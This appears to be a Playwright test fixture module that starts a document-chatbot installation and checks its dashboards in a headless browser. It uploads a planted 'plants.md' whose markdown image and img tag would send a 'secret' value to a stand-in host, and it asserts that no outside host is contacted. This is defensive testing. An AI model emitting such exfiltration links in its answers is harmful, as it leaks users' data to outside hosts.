"""A whole installation with a signed-up owner, documents and a warehouse, and a browser to look at it with."""

import os
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from serving.accounts.bootstrap import create_first_owner
from serving.bots.bootstrap import create_default_bot
from serving.client.api_client import ApiClient
from storage.postgres.engine import owner_engine
from tests.factories.installation import Installation
from tests.integration.faults.asking import POLICY, QUESTION

HOSTILE = (
    "# Plants\n\nThe office plant is watered ![x](http://example.com/leak?d=secret) on Mondays "
    "<img src=http://example.com/x> by the night porter.\n"
)
HOSTILE_QUESTION = "When is the office plant watered?"
CHROMIUM_ARGUMENTS = [
    "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
PATIENCE_MS = 30_000
PHONE = "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36"


@dataclass(frozen=True)
class House:
    """Where the dashboards are and who may sign in."""

    url: str
    email: str
    password: str


@dataclass
class Window:
    """A page of the browser, and every host other than this machine that it wanted to reach."""

    page: Page
    house: House
    strangers: list[str] = field(default_factory=list)

    def sign_in(self) -> None:
        """Through the form, as people do."""
        self.page.goto(self.house.url)
        self.page.get_by_label("E-mail").fill(self.house.email)
        self.page.get_by_label("Password", exact=True).fill(self.house.password)
        self.page.get_by_role("button", name="Sign in").click()
        expect(self.page.get_by_role("heading", name="Overview")).to_be_visible()
        self.settle()

    def open(self, name: str) -> None:
        """Go to a page by the sidebar."""
        heading = self.page.get_by_role("heading", name=name, exact=True)
        for patience_ms in (PATIENCE_MS // 4, PATIENCE_MS):  # a click may meet a page that is being drawn anew
            self.open_menu()
            self.page.get_by_test_id("stSidebarNav").get_by_role("link", name=name).click()
            try:
                expect(heading).to_be_visible(timeout=patience_ms)
                break
            except AssertionError:
                if patience_ms == PATIENCE_MS:
                    raise
        self.settle()

    def open_menu(self) -> None:
        """Open the sidebar where the page is too narrow to show it always."""
        if self.page.get_by_test_id("stExpandSidebarButton").is_visible():
            self.page.get_by_test_id("stExpandSidebarButton").click()
        expect(self.page.get_by_test_id("stSidebarNav")).to_be_in_viewport()

    def turn_on(self, name: str) -> None:
        """Turn the first switch of this name on; a click may meet a page that is being drawn anew."""
        switch = self.page.get_by_role("switch", name=name).first
        for _ in range(3):
            self.page.get_by_test_id("stCheckbox").filter(has_text=name).first.locator("label").click()
            self.settle()
            if switch.is_checked():
                return
        raise AssertionError(f"the switch {name} stays off")

    def ask(self, question: str) -> None:
        """Type a question and wait for the end of its answer."""
        box = self.page.get_by_placeholder("Ask about your documents")
        box.fill(question)
        box.press("Enter")
        expect(self.page.get_by_test_id("stFeedback").last).to_be_visible()
        self.settle()

    def settle(self) -> None:
        """Wait until the page has stopped changing, and check that nothing went wrong on it."""
        expect(self.page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
        expect(self.page.get_by_test_id("stSkeleton")).to_have_count(0)
        self.page.wait_for_timeout(300)  # charts and dialogs move for a moment
        expect(self.page.get_by_test_id("stException")).to_have_count(0)

    def shot(self, name: str) -> None:
        """Keep a picture where PIXEL_TEST_SHOTS says, for people who look at the design."""
        if folder := os.environ.get("PIXEL_TEST_SHOTS"):
            size = self.page.viewport_size or {"width": 1280, "height": 900}
            needed = self.page.evaluate("document.querySelector('#stMain').scrollHeight")
            self.page.set_viewport_size({"width": size["width"], "height": max(size["height"], needed)})
            self.page.wait_for_timeout(300)
            self.page.screenshot(path=str(Path(folder) / f"{name}.png"))
            self.page.set_viewport_size(size)
            self.settle()


@pytest.fixture(scope="module")
def house() -> Iterator[House]:
    """API, worker and dashboards with one owner, a few documents, some answers and the marts."""
    made = Installation.make()
    try:
        made.start_api()
        made.start_worker()
        engine = owner_engine(made.settings)
        first = create_first_owner(engine, name="Lumen Coffee", slug="lumen", email="owner@example.com")
        assert first is not None
        create_default_bot(engine, first.organization_id, knowledge_base="default", slug="assistant")
        engine.dispose()
        _fill(made, first.email, first.password)
        made.build_warehouse()
        made.start_dashboards()
        yield House(made.dashboard_url, first.email, first.password)
    finally:
        made.close()


def _fill(made: Installation, email: str, password: str) -> None:
    with ApiClient(made.url) as anonymous:
        token = anonymous.sign_in(email, password).token
    with ApiClient(made.url, token=token, organization="lumen") as client:
        base = client.knowledge_bases()[0]
        for name, data in (("policy.md", POLICY.encode()), ("plants.md", HOSTILE.encode()), ("scan.pdf", b"")):
            client.upload(base.id, name, data, None)
        made.wait_for_documents(lambda: [d.state for d in client.documents(base.id)])
        conversation = client.start_conversation(client.chatbots()[0].id, channel="dashboard").id
        for question in (QUESTION, "Who painted the ceiling of the Sistine Chapel?"):
            for _ in client.stream(conversation, question):
                pass


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium without a window."""
    path = shutil.which("chromium")
    if path is None:
        pytest.skip("Chromium is not installed (Debian: apt install chromium)")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=CHROMIUM_ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture(params=[(1280, 900), (390, 844)], ids=["desktop", "phone"])
def window(request: pytest.FixtureRequest, browser: Browser, house: House) -> Iterator[Window]:
    """A fresh page at the width of a desktop and of a phone; at its end, no other host was asked for anything."""
    width, height = request.param
    is_phone = width < 500
    context = browser.new_context(
        viewport={"width": width, "height": height},
        is_mobile=is_phone,
        has_touch=is_phone,
        user_agent=PHONE if is_phone else None,
        accept_downloads=False,
    )
    context.set_default_timeout(PATIENCE_MS)
    expect.set_options(timeout=PATIENCE_MS)
    opened = Window(context.new_page(), house)

    def note(url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname != "127.0.0.1":
            opened.strangers.append(url)

    context.on("request", lambda made: note(made.url))
    opened.page.on("websocket", lambda made: note(made.url))
    context.route(lambda url: urlsplit(url).hostname not in ("127.0.0.1", None), lambda route: route.abort())
    yield opened
    context.close()
    assert opened.strangers == []
